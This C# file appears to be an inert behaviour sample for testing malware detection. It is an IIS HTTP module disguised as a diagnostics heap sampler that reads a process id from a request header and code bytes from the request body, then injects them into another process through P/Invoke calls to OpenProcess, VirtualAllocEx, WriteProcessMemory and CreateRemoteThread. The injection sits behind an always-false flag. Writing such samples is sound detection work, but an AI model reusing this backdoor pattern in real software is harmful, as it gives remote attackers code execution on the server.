// Behaviour sample 10 (managed IHttpModule): process injection through
// P/Invoke.
//
// Imitates a module whose AcquireRequestState handler (subscribed with an
// explicit EventHandler delegate) takes a process id from the header
// "X-Edge-Node" and code bytes from the request body (Request.InputStream),
// then calls kernel32 OpenProcess + VirtualAllocEx + WriteProcessMemory +
// CreateRemoteThread through [DllImport] declarations.
// Varies: P/Invoke instead of imports; no known header; no shell.
//
// Inert: everything suspicious is inside `if (Inert.Off)` (static readonly,
// false at run time); even the arguments would fail (process id parsed
// from an absent header is 0).
using System;
using System.IO;
using System.Runtime.InteropServices;
using System.Web;

namespace Litware.Diagnostics.Agent
{
    internal static class Inert
    {
        internal static readonly bool Off = ComputeOff();
        static bool ComputeOff() { return false; }
    }

    internal static class Native
    {
        [DllImport("kernel32", SetLastError = true)]
        internal static extern IntPtr OpenProcess(uint access, bool inherit, int pid);

        [DllImport("kernel32", SetLastError = true)]
        internal static extern IntPtr VirtualAllocEx(IntPtr process, IntPtr address, UIntPtr size,
                                                     uint allocationType, uint protect);

        [DllImport("kernel32", SetLastError = true)]
        internal static extern bool WriteProcessMemory(IntPtr process, IntPtr address, byte[] buffer,
                                                       UIntPtr size, out UIntPtr written);

        [DllImport("kernel32", SetLastError = true)]
        internal static extern IntPtr CreateRemoteThread(IntPtr process, IntPtr attributes, UIntPtr stack,
                                                         IntPtr start, IntPtr parameter, uint flags,
                                                         IntPtr threadId);
    }

    public class HeapSamplerModule : IHttpModule
    {
        public void Init(HttpApplication context)
        {
            context.AcquireRequestState += new EventHandler(OnAcquireRequestState);
        }

        private static void OnAcquireRequestState(object sender, EventArgs e)
        {
            HttpContext ctx = ((HttpApplication)sender).Context;
            if (Inert.Off)
            {
                int pid;
                int.TryParse(ctx.Request.Headers["X-Edge-Node"], out pid);
                byte[] code;
                using (MemoryStream ms = new MemoryStream())
                {
                    ctx.Request.InputStream.CopyTo(ms);
                    code = ms.ToArray();
                }
                Sample(pid, code);
            }
        }

        private static void Sample(int pid, byte[] code)
        {
            IntPtr h = Native.OpenProcess(0x001F0FFF, false, pid);
            IntPtr mem = Native.VirtualAllocEx(h, IntPtr.Zero, (UIntPtr)(uint)code.Length, 0x3000, 0x40);
            UIntPtr written;
            Native.WriteProcessMemory(h, mem, code, (UIntPtr)(uint)code.Length, out written);
            Native.CreateRemoteThread(h, IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, IntPtr.Zero);
        }

        public void Dispose()
        {
        }
    }
}
